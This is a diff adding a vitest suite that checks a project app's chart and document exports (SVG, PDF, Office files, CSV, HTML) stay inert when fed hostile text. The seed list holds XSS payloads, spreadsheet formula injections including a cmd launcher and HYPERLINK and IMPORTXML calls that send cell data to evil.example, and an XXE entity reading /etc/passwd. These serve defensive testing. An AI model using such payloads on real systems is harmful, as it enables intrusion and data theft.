@@ -1,0 +1,240 @@
+import { strFromU8, unzipSync } from 'fflate';
+import { SaxesParser } from 'saxes';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { words } from '#domain/terms/term.ts';
+import type { Overview } from '#domain/overview.ts';
+import { putProjects } from '#server/store/put-projects.ts';
+import { readZone, writeZone } from '#server/store/zone.ts';
+import { currentRevision, writeRevision } from '#server/store/revisions.ts';
+import { languages } from '#domain/language.ts';
+import { makeCopy } from '#web/pages/copy/make-copy.ts';
+import { openApi, type TestApi } from '../setup/api.ts';
+import { drawingInPlace } from '../setup/drawing-in-place.ts';
+import { hasOffice, officeTurns } from '../setup/viewers.ts';
+import { record } from './store-records.ts';
+
+/** Families F1, F3, F6 and F9 of bad input, as far as the fonts can draw them. */
+const drawn = [
+  '<img src=x onerror=window.__xss=1>',
+  '<script>window.__xss=1</script>',
+  '"><svg onload=window.__xss=1>',
+  'javascript:window.__xss=1',
+  '</text><script>window.__xss=1</script><text>',
+  ']]><script>window.__xss=1</script>',
+  "{{constructor.constructor('window.__xss=1')()}}",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody might type
+  '${window.__xss=1}',
+  '<a href="//evil.example/?c=" target=_blank>x</a>',
+  '--></title><script>window.__xss=1</script>',
+  "<style>@import'//evil.example/x.css'</style>",
+  '&lt;img src=x onerror=window.__xss=1&gt;',
+  'x\u2028window.__xss=1\u2029',
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1,1)',
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  "=cmd|'/C calc'!A0",
+  '\t=1+1',
+  '=IMPORTXML("http://evil.example","//a")',
+  '"=1+1',
+  ';=1+1',
+  '+7 495 123-45-67',
+  'é',
+  'e\u0301',
+  'A\u200bB',
+  '\u202egnp.exe',
+  'a\u0001\u000bz',
+  '中日（青岛）地方发展合作示范区 神奈川県 徳島 髙﨑 𠮷野',
+  'Аоyama',
+  '\\) /JS (app.alert(1)) (',
+  'x'.repeat(300),
+  '長い'.repeat(150),
+  '<!ENTITY e SYSTEM "file:///etc/passwd">',
+  '&#65;&e;',
+] as const;
+/** What no font here has, with the character that the answer names. */
+const undrawn = [
+  ['👨‍👩‍👧‍👦', 'U+1F468'],
+  ['شركة 12', 'U+0634'],
+  ['\u{13000}', 'U+13000'],
+] as const;
+/** What XML can't hold is left out of pictures and office files; the rest comes letter for letter. */
+const kept = (text: string): string => text.replaceAll(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, '');
+
+const path = 'as_of=2021-04-16';
+let api: TestApi;
+const put = (code: string, text: string, yuan: string): Promise<unknown> =>
+  writeRevision(api.db, { author: text, kind: 'import', reason: text, origin: 'sample' }, (trx, revision) =>
+    putProjects(trx, revision, [
+      {
+        ...record(code, {
+          name: text,
+          investor: text,
+          company: text,
+          progress_text: text,
+          issue_text: text,
+          next_step: text,
+          remark: text,
+          owner: text,
+          extra: { [text]: text },
+          amounts: { total_investment: { money: { minor: yuan, currency: 'CNY' } } },
+        }),
+        origin: 'sample' as const,
+      },
+    ]),
+  );
+const bytesOf = async (address: string): Promise<Uint8Array<ArrayBuffer>> => {
+  const response = await api.send('GET', `/api/v1/${address}`);
+  const bytes = new Uint8Array(await response.arrayBuffer());
+  expect([address, response.status, response.status === 200 ? '' : strFromU8(bytes)]).toEqual([address, 200, '']);
+  return bytes;
+};
+/** Fails with the parser's words when a text is not well-formed, and with what runs or leads outside; gives the texts in it. */
+function inert(xml: string, where: string): ReadonlySet<string> {
+  const texts = new Set<string>();
+  const parser = new SaxesParser();
+  parser.on('error', (error) => {
+    throw new Error(`${where}: ${error.message}`);
+  });
+  parser.on('opentag', ({ name, attributes }) => {
+    if (/^(script|foreignObject|iframe|image|f)$/i.test(name)) throw new Error(`${where}: <${name}>`);
+    for (const [attribute, value] of Object.entries(attributes as Record<string, string>))
+      if (/^on/i.test(attribute) || (/^(xlink:)?href$|^src$/i.test(attribute) && !/^(#|data:)/.test(value)))
+        throw new Error(`${where}: ${attribute}`);
+  });
+  parser.on('text', (text) => texts.add(text));
+  parser.write(xml).close();
+  return texts;
+}
+/** Every XML part of an office file, the workbook inside a slide too. */
+function officeTexts(bytes: Uint8Array, where: string): ReadonlySet<string> {
+  const texts = new Set<string>();
+  for (const [name, part] of Object.entries(unzipSync(bytes))) {
+    const found = name.endsWith('.xlsx') ? officeTexts(part, `${where} ${name}`) : inert(strFromU8(part), `${where} ${name}`);
+    for (const text of found) texts.add(text);
+    if (name.endsWith('.rels')) expect(strFromU8(part)).not.toContain('TargetMode="External"');
+  }
+  return texts;
+}
+
+beforeAll(async () => {
+  api = await openApi(undefined, { drawing: drawingInPlace });
+  for (const [index, text] of drawn.entries()) await put(`H${String(index).padStart(2, '0')}`, text, `${(index + 1) * 1_000_000_000}`);
+  const profile = await readZone(api.db, 'sample', await currentRevision(api.db));
+  if (profile === undefined) throw new Error('no zone');
+  const hostile = words(`${drawn[1]} ${drawn[29]}`, `${drawn[4]} =1+1`, `"><svg onload=x> ${drawn[31]}`);
+  await writeRevision(api.db, { author: 'a', kind: 'edit', reason: '=1+1', origin: 'sample' }, (trx, revision) =>
+    writeZone(trx, revision, { ...profile, name: hostile, short_name: words('=a/..\\b', '<b>', '"x"') }),
+  );
+});
+afterAll(() => api.close());
+
+describe('every text that reaches an export', () => {
+  test.each(['targets', 'progress', 'pipeline', 'changes'])('is text in each form of %s, in each language', async (id) => {
+    for (const language of languages) {
+      const chart = (form: string): Promise<Uint8Array<ArrayBuffer>> => bytesOf(`charts/${id}.${form}?${path}&lang=${language}`);
+      inert(strFromU8(await chart('svg')).replace(/<style>.*?<\/style>/, ''), `${id}.svg`);
+      expect(
+        Buffer.from(await chart('png'))
+          .subarray(1, 4)
+          .toString(),
+      ).toBe('PNG');
+      const pdf = Buffer.from(await chart('pdf')).toString('latin1');
+      expect(pdf).not.toMatch(/\/JavaScript|\/OpenAction|\/Launch/);
+      const cells = [await chart('xlsx'), await chart('pptx')].map((bytes) => officeTexts(bytes, id));
+      const csv = strFromU8(await chart('csv'));
+      const json = JSON.parse(strFromU8(await chart('json'))) as { rows: Record<string, string | null>[] };
+      if (id !== 'pipeline') continue;
+      for (const text of drawn) {
+        expect(
+          json.rows.some((row) => row['name'] === text),
+          text,
+        ).toBe(true);
+        expect(csv.includes(text.replaceAll('"', '""')), text).toBe(true);
+        for (const found of cells) expect(found.has(kept(text)), text).toBe(true);
+      }
+    }
+  });
+
+  test('is text in the report, the workbook and the pack, in each language', async () => {
+    for (const language of languages) {
+      const query = `${path}&lang=${language}`;
+      expect(Buffer.from(await bytesOf(`documents/report.pdf?${query}`)).toString('latin1')).not.toMatch(
+        /\/JavaScript|\/OpenAction|\/Launch/,
+      );
+      officeTexts(await bytesOf(`documents/report.pptx?${query}`), 'report.pptx');
+      const book = officeTexts(await bytesOf(`documents/workbook.xlsx?${query}`), 'workbook.xlsx');
+      for (const text of drawn) expect(book.has(kept(text)), text).toBe(true);
+      const pack = unzipSync(await bytesOf(`documents/pack.zip?${query}`));
+      for (const name of Object.keys(pack)) expect(name).toMatch(/^[\w./-]+$/);
+      expect(JSON.parse(strFromU8(pack['metadata.json'] ?? new Uint8Array()))).toHaveProperty('resources');
+      for (const [name, bytes] of Object.entries(pack)) if (/\.(xlsx|pptx)$/.test(name)) officeTexts(bytes, name);
+    }
+  });
+
+  test('is text in the copy that is sent as one page', async () => {
+    const overview = await api.get<Overview>(`/api/v1/overview?${path}`);
+    const pictures = { 'zh-CN': [], ja: [], en: [] };
+    for (const language of languages) {
+      const html = makeCopy(overview, pictures, language, '2021-05-01');
+      expect(html).not.toMatch(/<script|<svg|<img (?!src="data:)|<[a-z][^>]*\son[a-z]+=|href=|@import/i);
+      expect(html).toContain('&#60;script&#62;');
+    }
+  });
+
+  test('runs in no cell: CSV for Excel marks it, the clean CSV leaves it, and LibreOffice counts no formula', async () => {
+    const excel = strFromU8(await bytesOf(`documents/projects.csv?${path}&csv=excel`));
+    expect(excel).not.toMatch(/(^|[,\n]"?)[=@\t]/);
+    const clean = strFromU8(await bytesOf(`documents/projects.csv?${path}`));
+    for (const text of ['=1+1', '+7 495 123-45-67', '@SUM(1,1)']) expect(clean).toContain(`,${text.includes(',') ? `"${text}"` : text},`);
+    if (!hasOffice) return;
+    const sheets = officeTurns('workbook.xlsx', await bytesOf(`documents/workbook.xlsx?${path}&lang=ja`), 'fods').toString();
+    expect(sheets).not.toContain('table:formula');
+    expect(sheets).toContain('>+7 495 123-45-67<');
+  }, 120_000);
+});
+
+describe('a character that no font has', () => {
+  test.each(undrawn)('%s: pictures and pages fail and name %s, data leave with it', async (text, code) => {
+    await put('H99', text, '9000000000000');
+    for (const file of ['charts/pipeline.svg', 'charts/pipeline.png', 'charts/pipeline.pdf']) {
+      const response = await api.send('GET', `/api/v1/${file}?${path}`);
+      expect([file, response.status, ((await response.json()) as { detail: string }).detail]).toEqual([
+        file,
+        422,
+        expect.stringContaining(code),
+      ]);
+    }
+    for (const form of ['xlsx', 'pptx']) expect(officeTexts(await bytesOf(`charts/pipeline.${form}?${path}`), form).has(text)).toBe(true);
+    for (const file of ['charts/pipeline.csv', 'charts/pipeline.json', 'documents/projects.csv'])
+      expect(strFromU8(await bytesOf(`${file}?${path}`))).toContain(text);
+  });
+});
+
+describe('what an export is asked with', () => {
+  test.each([
+    ['charts/targets.png?size=wide2', 'wide'],
+    ['charts/targets.png?size=', 'wide'],
+    ['charts/targets.png?scale=4', '3'],
+    ['charts/targets.png?scale=0', '1'],
+    ['charts/targets.png?width=99999', 'width'],
+    ['charts/targets.png?lang=de', 'zh-CN'],
+    ['charts/targets.svg?theme=sepia', 'dark'],
+    ['charts/targets.csv?csv=tsv', 'excel'],
+    ['charts/targets.svg?as_of=2021-02-30', 'as_of'],
+    ['charts/targets.svg?as_of[]=2021-04-16', 'as_of'],
+    ['charts/progress.svg?measure=nothing', 'companies'],
+    ['charts/progress.svg?range=all', 'to_date'],
+    ['charts/pipeline.svg?cur=yen', 'cur'],
+    ['documents/pack.zip?period=2021Q5', 'period'],
+    ['documents/pack.zip?stage=nowhere', 'stage'],
+    ['documents/workbook.xlsx?rows=1000000', 'rows'],
+    ['documents/projects.csv?csv=excel&csv=excel', 'csv'],
+    ['documents/report.pdf?lang=zh', 'zh-CN'],
+  ])('%s is refused with what there is (%s)', async (file, named) => {
+    const response = await api.send('GET', `/api/v1/${file}`);
+    expect(response.status).toBe(400);
+    expect(await response.text()).toContain(named);
+  });
+});
